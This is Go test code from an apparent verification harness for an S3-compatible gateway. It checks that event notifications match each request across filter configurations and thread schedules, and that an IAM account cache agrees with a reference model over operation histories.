	w := s3event.EventType(s[:strings.LastIndex(s, ":")+1] + "*")
	if v, ok := f[w]; ok {
		return v
	}
	return false
}

type c19Want struct {
	Event s3event.EventType
	Key   string
	Size  int64
	ETag  string // "" = not compared
}

type c19Case struct {
	Name string
	// Req builds the request; Want lists the notifications a success must produce
	Req  func(w *World) *gw.Req
	Want func(w *World) []c19Want
	Fail bool // this request is built to fail
}

func c19Cases() []c19Case {
	body := []byte("event payload body")
	bucket := func(w *World) string { return w.Bucket }
	_ = bucket
	return []c19Case{
		{Name: "PutObject", Req: func(w *World) *gw.Req { return NewReq("PUT", gw.ObjPath(w.Bucket, "ev/new"), "", nil, body) },
			Want: func(w *World) []c19Want {
				return []c19Want{{s3event.EventObjectCreatedPut, "ev/new", int64(len(body)), etagOf(body)}}
			}},
		{Name: "PutObject overwrite", Req: func(w *World) *gw.Req { return NewReq("PUT", gw.ObjPath(w.Bucket, w.Key), "", nil, body) },
			Want: func(w *World) []c19Want {
				return []c19Want{{s3event.EventObjectCreatedPut, w.Key, int64(len(body)), etagOf(body)}}
			}},
		{Name: "CopyObject", Req: func(w *World) *gw.Req {
			return NewReq("PUT", gw.ObjPath(w.Bucket, "ev/copy"), "", H("x-amz-copy-source", w.Bucket+"/"+w.Key), nil)
		}, Want: func(w *World) []c19Want {
			src := []byte(canaryObj1 + " body of obj1")
			return []c19Want{{s3event.EventObjectCreatedCopy, "ev/copy", int64(len(src)), etagOf(src)}}
		}},
		{Name: "CompleteMultipartUpload", Req: func(w *World) *gw.Req {
			return NewReq("POST", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID), nil, []byte("<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>"+w.PartETag+"</ETag></Part></CompleteMultipartUpload>"))
		}, Want: func(w *World) []c19Want {
			part := []byte(canaryPart + " part one")
			return []c19Want{{s3event.EventCompleteMultipartUpload, w.MpKey, int64(len(part)), mpETag(part)}}
		}},
		{Name: "DeleteObject", Req: func(w *World) *gw.Req { return NewReq("DELETE", gw.ObjPath(w.Bucket, w.Key), "", nil, nil) },
			Want: func(w *World) []c19Want { return []c19Want{{s3event.EventObjectRemovedDelete, w.Key, -1, ""}} }},
		{Name: "DeleteObjects two keys", Req: func(w *World) *gw.Req {
			return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>"+w.Key+"</Key></Object><Object><Key>"+w.Key2+"</Key></Object></Delete>"))
		}, Want: func(w *World) []c19Want {
			return []c19Want{{s3event.EventObjectRemovedDeleteObjects, w.Key, -1, ""}, {s3event.EventObjectRemovedDeleteObjects, w.Key2, -1, ""}}
		}},
		{Name: "DeleteObjects one key fails", Req: func(w *World) *gw.Req {
			// "dir/" is a non-empty directory: its delete fails inside the batch, the other key is deleted
			return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>"+w.Key+"</Key></Object><Object><Key>dir/</Key></Object></Delete>"))
		}, Want: func(w *World) []c19Want {
			return []c19Want{{s3event.EventObjectRemovedDeleteObjects, w.Key, -1, ""}}
		}},
		{Name: "DeleteObjects one key listed twice", Req: func(w *World) *gw.Req {
			return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>"+w.Key+"</Key></Object><Object><Key>"+w.Key+"</Key></Object></Delete>"))
		}, Want: func(w *World) []c19Want {
			return []c19Want{{s3event.EventObjectRemovedDeleteObjects, w.Key, -1, ""}}
		}},
		{Name: "DeleteObjects 600 keys", Req: func(w *World) *gw.Req {
			var b strings.Builder
			b.WriteString("<Delete>")
			for i := 0; i < 600; i++ {
				fmt.Fprintf(&b, "<Object><Key>bulk/k%03d</Key></Object>", i)
			}
			b.WriteString("</Delete>")
			return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte(b.String()))
		}, Want: func(w *World) []c19Want {
			var out []c19Want
			for i := 0; i < 600; i++ {
				out = append(out, c19Want{s3event.EventObjectRemovedDeleteObjects, fmt.Sprintf("bulk/k%03d", i), -1, ""})
			}
			return out
		}},
		{Name: "PutObject directory object", Req: func(w *World) *gw.Req { return NewReq("PUT", gw.ObjPath(w.Bucket, "ev/dirobj/"), "", nil, nil) },
			Want: func(w *World) []c19Want { return []c19Want{{s3event.EventObjectCreatedPut, "ev/dirobj/", 0, ""}} }},
		{Name: "DeleteObject directory object", Req: func(w *World) *gw.Req {
			Must(w.F.Put(gw.Root, w.Bucket, "ev/dirobj2/", nil), "directory object")
			return NewReq("DELETE", gw.ObjPath(w.Bucket, "ev/dirobj2/"), "", nil, nil)
		}, Want: func(w *World) []c19Want { return []c19Want{{s3event.EventObjectRemovedDelete, "ev/dirobj2/", -1, ""}} }},
		{Name: "CopyObject from an explicit source version", Req: func(w *World) *gw.Req {
			src := w.Bucket + "/" + w.Key
			if w.F.G.Opts.Versioning {
				// two versions of the source; the copy names the older one
				Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "enable versioning")
				v1 := Must(w.F.Put(gw.Root, w.Bucket, w.Key, []byte("source version one")), "v1").Header.Get("x-amz-version-id")
				Must(w.F.Put(gw.Root, w.Bucket, w.Key, []byte("source version two, longer")), "v2")
				src += "?versionId=" + v1
			}
			return NewReq("PUT", gw.ObjPath(w.Bucket, "ev/copy-of-version"), "", H("x-amz-copy-source", src), nil)
		}, Want: func(w *World) []c19Want {
			return []c19Want{{s3event.EventObjectCreatedCopy, "ev/copy-of-version", -1, ""}}
		}},
		{Name: "PutObjectTagging", Req: func(w *World) *gw.Req {
			return NewReq("PUT", gw.ObjPath(w.Bucket, w.Key), "tagging", nil, []byte("<Tagging><TagSet><Tag><Key>a</Key><Value>b</Value></Tag></TagSet></Tagging>"))
		}, Want: func(w *World) []c19Want { return []c19Want{{s3event.EventObjectTaggingPut, w.Key, -1, ""}} }},
		{Name: "DeleteObjectTagging", Req: func(w *World) *gw.Req { return NewReq("DELETE", gw.ObjPath(w.Bucket, w.Key), "tagging", nil, nil) },
			Want: func(w *World) []c19Want { return []c19Want{{s3event.EventObjectTaggingDelete, w.Key, -1, ""}} }},
		// failing requests: no notification
		{Name: "PutObject to missing bucket", Fail: true, Req: func(w *World) *gw.Req { return NewReq("PUT", gw.ObjPath("no-such-bucket", "k"), "", nil, body) }},
		{Name: "PutObject with wrong Content-MD5", Fail: true, Req: func(w *World) *gw.Req {
			return NewReq("PUT", gw.ObjPath(w.Bucket, "ev/bad"), "", H("Content-MD5", gw.MD5B64([]byte("other"))), body)
		}},
		{Name: "CopyObject of missing source", Fail: true, Req: func(w *World) *gw.Req {
			return NewReq("PUT", gw.ObjPath(w.Bucket, "ev/copy"), "", H("x-amz-copy-source", w.Bucket+"/no-such-key"), nil)
		}},
		{Name: "CompleteMultipartUpload with wrong etag", Fail: true, Req: func(w *World) *gw.Req {
			return NewReq("POST", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID), nil, []byte("<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>\"00000000000000000000000000000000\"</ETag></Part></CompleteMultipartUpload>"))
		}},
		{Name: "DeleteObject in missing bucket", Fail: true, Req: func(w *World) *gw.Req { return NewReq("DELETE", gw.ObjPath("no-such-bucket", "k"), "", nil, nil) }},
		{Name: "PutObjectTagging on missing key", Fail: true, Req: func(w *World) *gw.Req {
			return NewReq("PUT", gw.ObjPath(w.Bucket, "no-such-key"), "tagging", nil, []byte("<Tagging><TagSet><Tag><Key>a</Key><Value>b</Value></Tag></TagSet></Tagging>"))
		}},
		{Name: "DeleteObjects one missing bucket", Fail: true, Req: func(w *World) *gw.Req {
			return NewReq("POST", "/no-such-bucket", "delete", nil, []byte("<Delete><Object><Key>k</Key></Object></Delete>"))
		}},
		{Name: "DeleteObjects whose result document exceeds the response size limit", Fail: true, Req: func(w *World) *gw.Req {
			// 1000 legal keys of 1003 bytes made of '"': about 1 MB as sent, more than 4 MiB once the answer escapes every quote
			var b strings.Builder
			b.WriteString("<Delete>")
			el := strings.Repeat("\"", 250)
			for i := 0; i < 1000; i++ {
				fmt.Fprintf(&b, "<Object><Key>%s/%s/%s/%s%03d</Key></Object>", el, el, el, el[:247], i)
			}
			b.WriteString("</Delete>")
			return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte(b.String()))
		}},
		{Name: "PutObject access denied", Fail: true, Req: func(w *World) *gw.Req {
			r := NewReq("PUT", gw.ObjPath(w.Other, "ev/denied"), "", nil, body)
			r.Set("x-verif-caller", "usr3")
			return r
		}},
	}
}

func C19(r *ck.Run) {
	requireInstrumented()
	r.Rule("(a) every object-changing endpoint in a succeeding and in failing variants × 20 event-filter configurations (none, empty, family wildcards on/off, wildcard overridden by an exact entry in both directions, each event type alone on / alone off) through the full gateway with a loopback webhook sink — the notifications received must be exactly one record per affected key with the right bucket, key, size, ETag and event name, none for failures and filtered events; (b) every interleaving of the webhook's send goroutine (a logical thread through the overlay) with the same worker serving the next request on the recycled request context; distinct = (case, filter) / schedule")
	r.Assume("in (a) the overlay runs the sender goroutine inline (sched.SyncGo) so that 'no notification' is decided without waiting; the sink is a loopback HTTP server")
	cases := c19Cases()
	filters := c19Filters()
	r.Sharded(16, func() {
		sched.SyncGo = true
		defer func() { sched.SyncGo = false }()
		idx := 0
		for _, cfg := range []gw.Opts{{}, {Versioning: true}} {
			for fi, fl := range filters {
				if cfg.Versioning && !r.Thorough() && fi != 0 {
					continue // quick: the versioning configuration with the first filter only
				}
				sink := newEvSink()
				sender, err := s3event.InitWebhookEventSender(sink.URL(), fl.F)
				if err != nil {
					ck.Fatal("webhook sender: %v", err)
				}
				sink.take() // the test event
				for _, c := range cases {
					idx++
					if !r.Mine(idx) {
						continue
					}
					o := cfg
					o.Events = sender
					w := NewWorld("c19", o)
					if cfg.Versioning {
						// the bucket keeps versions: the records must name the version a request created or removed
						Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "enable versioning")
					}
					sink.take()
					req := c.Req(w)
					sink.take() // notifications of the case's own preparation
					cred := gw.Root
					if req.Get("x-verif-caller") == "usr3" {
						cred = cUsr3
						req.Del("x-verif-caller")
					}
					gw.Sign(req, cred, gw.SignOpts{})
					resp := w.F.G.Do(req)
					got := sink.take()
					r.Add("evaluations", 1)
					r.Distinct(fmt.Sprintf("%v|%s|%s", cfg.Versioning, c.Name, fl.Name))
					var want []c19Want
					if !c.Fail {
						if !resp.OK() {
							ck.Fatal("case %q is meant to succeed but got %s", c.Name, resp)
						}
						for _, wn := range c.Want(w) {
							if refFilter(fl.F, wn.Event) {
								want = append(want, wn)
							}
						}
					} else if resp.OK() {
						ck.Fatal("case %q is meant to fail but got %s", c.Name, resp)
					}
					r.Outcome(fmt.Sprintf("want=%d got=%d", len(want), len(got)))
					a := c19Compare(want, got, w.Bucket)
					if vid := resp.Header.Get("x-amz-version-id"); a == "" && vid != "" && !strings.HasPrefix(c.Name, "DeleteObjects") {
						// the record names the version the request created / removed, as the response does
						for _, g := range got {
							if g.S3.Object.VersionId == nil || *g.S3.Object.VersionId != vid {
								a = "record-names-another-version-than-the-response"
							}
						}
					}
					if a != "" {
						fclass := "filtered-out"
						if len(want) > 0 {
							fclass = "enabled"
						} else if c.Fail {
							fclass = "request-failed"
						}
						r.Violation(ck.JoinSig("sequential", c.Name, fclass, a), map[string]any{"case": c.Name, "filter": fl.Name, "request": req.String(), "response": resp.String(), "expected": fmt.Sprintf("%+v", want), "received": c19Fmt(got)})
					}
					w.Close()
				}
				sender.Close()
				sink.Close()
			}
		}
		sched.SyncGo = false
		c19Schedules(r)
	})
	r.Sample(map[string]any{"case": "DeleteObjects two keys", "filter": "only:s3:ObjectRemoved:DeleteObjects", "expected": "two records, one per key"})
}

func c19Fmt(recs []s3event.EventRecord) []string {
	var out []string
	for _, rc := range recs {
		et := "<nil>"
		if rc.S3.Object.ETag != nil {
			et = *rc.S3.Object.ETag
		}
		out = append(out, fmt.Sprintf("%s bucket=%s key=%s size=%d etag=%s", rc.EventName, rc.S3.Bucket.Name, rc.S3.Object.Key, rc.S3.Object.Size, et))
	}
	sort.Strings(out)
	return out
}

func c19Compare(want []c19Want, got []s3event.EventRecord, bucket string) string {
	if len(got) != len(want) {
		if len(got) > len(want) {
			return fmt.Sprintf("unexpected-notification(%d-instead-of-%d)", len(got), len(want))
		}
		return fmt.Sprintf("missing-notification(%d-instead-of-%d)", len(got), len(want))
	}
	used := make([]bool, len(got))
	for _, w := range want {
		found := false
		for i, g := range got {
			if used[i] || g.EventName != w.Event || g.S3.Object.Key != w.Key {
				continue
			}
			used[i] = true
			found = true
			if g.S3.Bucket.Name != bucket {
				return "wrong-bucket-name"
			}
			if g.S3.Bucket.Arn != "arn:aws:s3:::"+bucket {
				return "wrong-bucket-arn"
			}
			if w.Size >= 0 && g.S3.Object.Size != w.Size {
				return "wrong-size"
			}
			if w.ETag != "" && (g.S3.Object.ETag == nil || strings.Trim(*g.S3.Object.ETag, `"`) != strings.Trim(w.ETag, `"`)) {
				return "wrong-etag"
			}
			break
		}
		if !found {
			return "record-names-wrong-key-or-event"
		}
	}
	return ""
}

// ---- (b) schedules: the send goroutine vs the worker recycling the request context ----

// serveOn parses raw into the (recycled) request context and runs the handler on the calling goroutine,
// the way a fasthttp worker does for the next request.
func serveOn(h fasthttp.RequestHandler, ctx *fasthttp.RequestCtx, r *gw.Req) int {
	raw := r.Raw()
	// what fasthttp's serveConn does between two requests served with the same context
	ctx.Request.Reset()
	ctx.Response.Reset()
	ctx.ResetUserValues()
	br := bufio.NewReader(bytes.NewReader(raw))
	if err := ctx.Request.Header.Read(br); err != nil {
		ck.Fatal("parse request header: %v", err)
	}
	body, _ := io.ReadAll(br)
	ctx.Request.SetBodyStream(bytes.NewReader(body), len(body))
	h(ctx)
	return ctx.Response.StatusCode()
}

func c19Schedules(r *ck.Run) {
	if r.ShardI > 0 {
		return
	}
	bound := 2
	sink := newEvSink()
	defer sink.Close()
	sender, err := s3event.InitWebhookEventSender(sink.URL(), nil)
	if err != nil {
		ck.Fatal("webhook sender: %v", err)
	}
	sink.take()
	w := NewWorld("c19s", gw.Opts{Events: sender})
	defer w.Close()
	h := w.F.G.App.Handler()
	type pair struct {
		Name   string
		First  func() *gw.Req
		Second func() *gw.Req
		Want   []c19Want
		Bkts   []string
	}
	b1 := []byte("first request body")
	b2 := []byte("second request body, longer than the first one")
	pairs := []pair{
		{Name: "PUT a ; PUT b (other bucket, longer key)", First: func() *gw.Req { return NewReq("PUT", gw.ObjPath(w.Bucket, "evk/first"), "", nil, b1) },
			Second: func() *gw.Req {
				return NewReq("PUT", gw.ObjPath("evb-second", "second/key/that/is/longer"), "", nil, b2)
			},
			Want: []c19Want{{s3event.EventObjectCreatedPut, "evk/first", int64(len(b1)), etagOf(b1)}, {s3event.EventObjectCreatedPut, "second/key/that/is/longer", int64(len(b2)), etagOf(b2)}},
			Bkts: []string{"bk-main", "evb-second"}},
		{Name: "PUT a ; failing PUT (missing bucket)", First: func() *gw.Req { return NewReq("PUT", gw.ObjPath(w.Bucket, "evk/first"), "", nil, b1) },
			Second: func() *gw.Req { return NewReq("PUT", gw.ObjPath("no-such-bucket-zz", "x"), "", nil, b2) },
			Want:   []c19Want{{s3event.EventObjectCreatedPut, "evk/first", int64(len(b1)), etagOf(b1)}}, Bkts: []string{"bk-main"}},
		{Name: "DELETE a ; PUT b", First: func() *gw.Req { return NewReq("DELETE", gw.ObjPath(w.Bucket, "evk/first"), "", nil, nil) },
			Second: func() *gw.Req { return NewReq("PUT", gw.ObjPath("evb-second", "zzzzzzzzzzzzzzzzzzzzzz"), "", nil, b2) },
			Want:   []c19Want{{s3event.EventObjectRemovedDelete, "evk/first", -1, ""}, {s3event.EventObjectCreatedPut, "zzzzzzzzzzzzzzzzzzzzzz", int64(len(b2)), etagOf(b2)}},
			Bkts:   []string{"bk-main", "evb-second"}},
	}
	// a batch delete sends one notification per key from goroutines started in a loop: each must carry its own key
	pairs = append(pairs, pair{Name: "DeleteObjects a,b,c ; PUT d",
		First: func() *gw.Req {
			return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>evk/first</Key></Object><Object><Key>evk/second</Key></Object><Object><Key>evk/third</Key></Object></Delete>"))
		},
		Second: func() *gw.Req { return NewReq("PUT", gw.ObjPath("evb-second", "after-the-batch"), "", nil, b2) },
		Want: []c19Want{{s3event.EventObjectRemovedDeleteObjects, "evk/first", -1, ""}, {s3event.EventObjectRemovedDeleteObjects, "evk/second", -1, ""}, {s3event.EventObjectRemovedDeleteObjects, "evk/third", -1, ""},
			{s3event.EventObjectCreatedPut, "after-the-batch", int64(len(b2)), etagOf(b2)}},
		Bkts: []string{"bk-main", "evb-second"}})
	for _, pr := range pairs {
		var ctx fasthttp.RequestCtx
		var req0 fasthttp.Request
		ctx.Init(&req0, &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 4242}, nil)
		var st1, st2 int
		setup := func() []func() {
			// identical fixture for every execution (scheduler inactive; the fixture's own notifications
			// are delivered inline and discarded)
			sched.SyncGo = true
			os.RemoveAll(filepath.Join(w.F.G.Root, "evb-second"))
			os.RemoveAll(filepath.Join(w.F.G.Root, w.Bucket, "evk"))
			Must(w.F.CreateBucket(gw.Root, "evb-second"), "second bucket")
			Must(w.F.Put(gw.Root, "evb-second", "warm", []byte("w")), "warm")
			Must(w.F.Put(gw.Root, w.Bucket, "evk/first", []byte("seed")), "seed")
			Must(w.F.Put(gw.Root, w.Bucket, "evk/second", []byte("seed2")), "seed")
			Must(w.F.Put(gw.Root, w.Bucket, "evk/third", []byte("seed3")), "seed")
			sched.SyncGo = false
			sink.take()
			return []func(){func() {
				q1 := pr.First()
				gw.Sign(q1, gw.Root, gw.SignOpts{})
				st1 = serveOn(h, &ctx, q1)
				q2 := pr.Second()
				gw.Sign(q2, gw.Root, gw.SignOpts{})
				st2 = serveOn(h, &ctx, q2)
			}}
		}
		check := func(x *sched.Exec) {
			r.Add("evaluations", 1)
			r.Add("transitions", int64(len(x.Points)))
			r.Distinct(fmt.Sprintf("evsched|%s|%v", pr.Name, x.Choices))
			got := sink.take()
			r.Outcome(fmt.Sprintf("%s: %d/%d got=%d", pr.Name, st1, st2, len(got)))
			detail := func(what string) map[string]any {
				var trace []string
				for i, p := range x.Points {
					if p.Thread != 0 || i < 3 {
						trace = append(trace, fmt.Sprintf("%d T%d %s", i, p.Thread, ck.Short(sched.Canon(p.Label), 80)))
					}
				}
				return map[string]any{"pair": pr.Name, "what": what, "choices": x.Choices, "sender_thread_steps": trace, "received": c19Fmt(got), "statuses": []int{st1, st2}}
			}
			if x.Deadlock || x.Horizon || len(x.Panics) > 0 {
				r.Violation(ck.JoinSig("schedule", pr.Name, "deadlock-or-panic"), detail(fmt.Sprint(x.Panics)))
				return
			}
			if len(got) != len(pr.Want) {
				r.Violation(ck.JoinSig("schedule", "wrong-number-of-notifications"), detail(""))
				return
			}
			for _, wn := range pr.Want {
				ok := false
				for _, g := range got {
					if g.EventName == wn.Event && g.S3.Object.Key == wn.Key {
						ok = true
						bk := pr.Bkts[0]
						if !strings.HasPrefix(wn.Key, "evk/") {
							bk = pr.Bkts[len(pr.Bkts)-1]
						}
						if g.S3.Bucket.Name != bk {
							ok = false
						}
						if wn.Size >= 0 && g.S3.Object.Size != wn.Size {
							ok = false
						}
					}
				}
				if !ok {
					r.Violation(ck.JoinSig("schedule", "record-fields-do-not-match-the-request-that-caused-it"), detail(fmt.Sprintf("expected %+v", wn)))
					return
				}
			}
		}
		ex := &sched.Explorer{Bound: bound, Setup: setup, Check: check}
		ex.Explore()
		r.Add("schedules", ex.Execs)
	}
}
