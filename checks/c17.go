package checks

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"time"
	"unsafe"

	"github.com/anishathalye/porcupine"
	"github.com/versity/versitygw/auth"

	"verif/ck"
	"verif/gw"
	"verif/sched"
	"verif/shim/vtime"
)

func init() { Registry["C17"] = C17 }

const c17TTL = 120 * time.Second

// c17Store: a real IAMCache over a real file-backed IAMServiceInternal.
type c17Store struct {
	Dir   string
	Svc   *auth.IAMServiceInternal
	Cache *auth.IAMCache
	// Direct: operations bypass the cache (gateway run with the account cache disabled)
	Direct bool
}

func newC17Store() *c17Store {
	dir, _ := ck.Scratch("c17")
	root := auth.Account{Access: gw.RootAccess, Secret: gw.RootSecret, Role: auth.RoleAdmin}
	svc, err := auth.NewInternal(root, dir)
	if err != nil {
		ck.Fatal("iam internal: %v", err)
	}
	c := auth.NewCache(svc, c17TTL, 3600*time.Second)
	// let the cache's janitor goroutine reach its (hour long) wait before any exploration starts
	time.Sleep(20 * time.Millisecond)
	return &c17Store{Dir: dir, Svc: svc, Cache: c}
}

func (s *c17Store) Close() {
	s.Cache.Shutdown()
	os.RemoveAll(s.Dir)
}

// cacheItems gives access to IAMCache.iamcache.items (unexported) for state keys and resets.
func (s *c17Store) cacheItems() reflect.Value {
	v := reflect.ValueOf(s.Cache).Elem().FieldByName("iamcache")
	v = reflect.NewAt(v.Type(), unsafe.Pointer(v.UnsafeAddr())).Elem() // *icache
	items := v.Elem().FieldByName("items")
	return reflect.NewAt(items.Type(), unsafe.Pointer(items.UnsafeAddr())).Elem()
}

func (s *c17Store) cacheDump() string {
	items := s.cacheItems()
	var parts []string
	for _, k := range items.MapKeys() {
		it := items.MapIndex(k)
		val := it.FieldByName("value")
		exp := it.FieldByName("exp")
		expT := reflect.NewAt(exp.Type(), unsafe.Pointer(reflect.ValueOf(&struct{}{}).Pointer())).Elem()
		_ = expT
		// copy the item to make its fields addressable
		cp := reflect.New(it.Type()).Elem()
		cp.Set(it)
		val = cp.FieldByName("value")
		exp = cp.FieldByName("exp")
		acct := reflect.NewAt(val.Type(), unsafe.Pointer(val.UnsafeAddr())).Elem().Interface().(auth.Account)
		t := reflect.NewAt(exp.Type(), unsafe.Pointer(exp.UnsafeAddr())).Elem().Interface().(time.Time)
		live := t.After(vtime.Now())
		parts = append(parts, fmt.Sprintf("%s=%+v live=%v", k.String(), acct, live))
	}
	sort.Strings(parts)
	return strings.Join(parts, ";")
}

func (s *c17Store) cacheLen() int { return s.cacheItems().Len() }

// reset: empty cache, users.json holding exactly accts, clock at real time.
func (s *c17Store) reset(accts ...auth.Account) {
	vtime.ResetClock()
	items := s.cacheItems()
	for _, k := range items.MapKeys() {
		items.SetMapIndex(k, reflect.Value{})
	}
	m := map[string]auth.Account{}
	for _, a := range accts {
		m[a.Access] = a
	}
	b, _ := json.Marshal(map[string]any{"accessAccounts": m})
	if err := os.WriteFile(filepath.Join(s.Dir, "users.json"), b, 0o600); err != nil {
		ck.Fatal("reset users.json: %v", err)
	}
	os.Remove(filepath.Join(s.Dir, "users.json.backup"))
	ents, _ := os.ReadDir(s.Dir)
	for _, e := range ents {
		if e.Name() != "users.json" {
			os.Remove(filepath.Join(s.Dir, e.Name()))
		}
	}
}

func (s *c17Store) fileAccounts() (map[string]auth.Account, error) {
	b, err := os.ReadFile(filepath.Join(s.Dir, "users.json"))
	if err != nil {
		return nil, err
	}
	var conf struct {
		AccessAccounts map[string]auth.Account `json:"accessAccounts"`
	}
	if err := json.Unmarshal(b, &conf); err != nil {
		return nil, err
	}
	return conf.AccessAccounts, nil
}

// ---- operations and reference model ---------------------------------------

type c17Op struct {
	Kind   string // create update delete lookup list tick
	Access string
	Acct   auth.Account // create
	Secret *string      // update
	UID    *int
	GID    *int
}

func (o c17Op) String() string {
	switch o.Kind {
	case "create":
		return fmt.Sprintf("create(%s,%s,%s,uid=%d,gid=%d)", o.Acct.Access, o.Acct.Secret, o.Acct.Role, o.Acct.UserID, o.Acct.GroupID)
	case "update":
		s := "update(" + o.Access
		if o.Secret != nil {
			s += ",secret=" + *o.Secret
		}
		if o.UID != nil {
			s += fmt.Sprintf(",uid=%d", *o.UID)
		}
		if o.GID != nil {
			s += fmt.Sprintf(",gid=%d", *o.GID)
		}
		return s + ")"
	case "tick":
		return "advance-clock-past-TTL"
	}
	return o.Kind + "(" + o.Access + ")"
}

type c17Res struct {
	Err   string
	Acct  auth.Account
	Accts []auth.Account
}

func (s *c17Store) apply(o c17Op) c17Res {
	if s.Direct {
		// the gateway started with the account cache disabled: requests reach the file-backed service itself
		switch o.Kind {
		case "create":
			return c17Res{Err: errS(s.Svc.CreateAccount(o.Acct))}
		case "update":
			return c17Res{Err: errS(s.Svc.UpdateUserAccount(o.Access, auth.MutableProps{Secret: o.Secret, UserID: o.UID, GroupID: o.GID}))}
		case "delete":
			return c17Res{Err: errS(s.Svc.DeleteUserAccount(o.Access))}
		case "lookup":
			a, err := s.Svc.GetUserAccount(o.Access)
			return c17Res{Err: errS(err), Acct: a}
		case "list":
			l, err := s.Svc.ListUserAccounts()
			return c17Res{Err: errS(err), Accts: l}
		}
		return c17Res{}
	}
	switch o.Kind {
	case "create":
		return c17Res{Err: errS(s.Cache.CreateAccount(o.Acct))}
	case "update":
		return c17Res{Err: errS(s.Cache.UpdateUserAccount(o.Access, auth.MutableProps{Secret: o.Secret, UserID: o.UID, GroupID: o.GID}))}
	case "delete":
		return c17Res{Err: errS(s.Cache.DeleteUserAccount(o.Access))}
	case "lookup":
		a, err := s.Cache.GetUserAccount(o.Access)
		return c17Res{Err: errS(err), Acct: a}
	case "list":
		l, err := s.Cache.ListUserAccounts()
		return c17Res{Err: errS(err), Accts: l}
	case "tick":
		vtime.Advance(c17TTL + time.Second)
	}
	return c17Res{}
}

func errS(err error) string {
	switch {
	case err == nil:
		return ""
	case err == auth.ErrNoSuchUser || strings.Contains(err.Error(), "user not found"):
		return "NoSuchUser"
	case err == auth.ErrUserExists || strings.Contains(err.Error(), "user already exists"):
		return "UserExists"
	}
	return "ERR:" + err.Error()
}

// reference: a plain map
type c17Model map[string]auth.Account

func (m c17Model) clone() c17Model {
	n := c17Model{}
	for k, v := range m {
		n[k] = v
	}
	return n
}

func (m c17Model) key() string {
	var ks []string
	for k, v := range m {
		ks = append(ks, fmt.Sprintf("%s=%+v", k, v))
	}
	sort.Strings(ks)
	return strings.Join(ks, ";")
}

// step returns the expected result and applies the op.
func (m c17Model) step(o c17Op) c17Res {
	switch o.Kind {
	case "create":
		if _, ok := m[o.Acct.Access]; ok {
			return c17Res{Err: "UserExists"}
		}
		m[o.Acct.Access] = o.Acct
	case "update":
		a, ok := m[o.Access]
		if !ok {
			return c17Res{Err: "NoSuchUser"}
		}
		if o.Secret != nil {
			a.Secret = *o.Secret
		}
		if o.UID != nil {
			a.UserID = *o.UID
		}
		if o.GID != nil {
			a.GroupID = *o.GID
		}
		m[o.Access] = a
	case "delete":
		delete(m, o.Access)
	case "lookup":
		a, ok := m[o.Access]
		if !ok {
			return c17Res{Err: "NoSuchUser"}
		}
		return c17Res{Acct: a}
	case "list":
		var l []auth.Account
		for _, a := range m {
			l = append(l, a)
		}
		sort.Slice(l, func(i, j int) bool { return l[i].Access < l[j].Access })
		return c17Res{Accts: l}
	}
	return c17Res{}
}

func resEq(a, b c17Res) bool {
	if a.Err != b.Err || a.Acct != b.Acct || len(a.Accts) != len(b.Accts) {
		return false
	}
	for i := range a.Accts {
		if a.Accts[i] != b.Accts[i] {
			return false
		}
	}
	return true
}

func strp(s string) *string { return &s }
func intp(i int) *int       { return &i }

func c17Alphabet() []c17Op {
	u := func(access, secret string, role auth.Role, uid, gid int) auth.Account {
		return auth.Account{Access: access, Secret: secret, Role: role, UserID: uid, GroupID: gid}
	}
	return []c17Op{
		{Kind: "lookup", Access: "u1"},
		{Kind: "create", Acct: u("u1", "s1", auth.RoleUser, 1001, 1002)},
		{Kind: "delete", Access: "u1"},
		{Kind: "update", Access: "u1", Secret: strp("s2")},
		{Kind: "update", Access: "u1", UID: intp(2001)},
		{Kind: "update", Access: "u1", GID: intp(2002)},
		{Kind: "tick"},
		{Kind: "list"},
		{Kind: "create", Acct: u("u1", "s9", auth.RoleAdmin, 0, 0)},
		{Kind: "lookup", Access: "u2"},
		{Kind: "create", Acct: u("u2", "t1", auth.RoleUserPlus, 3001, 3002)},
		{Kind: "delete", Access: "u2"},
		{Kind: "update", Access: "u2", Secret: strp("t2"), UID: intp(4001)},
	}
}

// c17BFS: explicit-state search over histories (state = shortest history; successor = replay + one op).
func c17BFS(r *ck.Run, st *c17Store, depth int) {
	alpha := c17Alphabet()
	type node struct{ hist []int }
	replay := func(hist []int) (c17Model, string, bool) {
		st.reset()
		m := c17Model{}
		for i, oi := range hist {
			o := alpha[oi]
			want := m.step(o)
			got := st.apply(o)
			if !resEq(want, got) {
				var names []string
				for _, h := range hist[:i+1] {
					names = append(names, alpha[h].String())
				}
				// class: which op kind after which mutating predecessor
				prev := "start"
				for _, h := range hist[:i] {
					if alpha[h].Kind != "lookup" && alpha[h].Kind != "list" && alpha[h].Kind != "tick" {
						prev = alpha[h].Kind
					}
				}
				r.Violation(ck.JoinSig("history", o.Kind+"-after-"+prev, diffClass(want, got)), map[string]any{"history": names, "expected": fmt.Sprintf("%+v", want), "got": fmt.Sprintf("%+v", got)})
				return m, "", false
			}
		}
		fa, err := st.fileAccounts()
		if err != nil {
			r.Violation(ck.JoinSig("history", "account-store-unreadable"), map[string]any{"history": hist, "error": err.Error()})
			return m, "", false
		}
		fk := c17Model(fa).key()
		if fk != m.key() {
			r.Violation(ck.JoinSig("history", "account-store-differs-from-acknowledged-state"), map[string]any{"history": hist, "file": fk, "model": m.key()})
			return m, "", false
		}
		return m, m.key() + "|" + st.cacheDump(), true
	}
	_, k0, _ := replay(nil)
	seen := map[string]bool{k0: true}
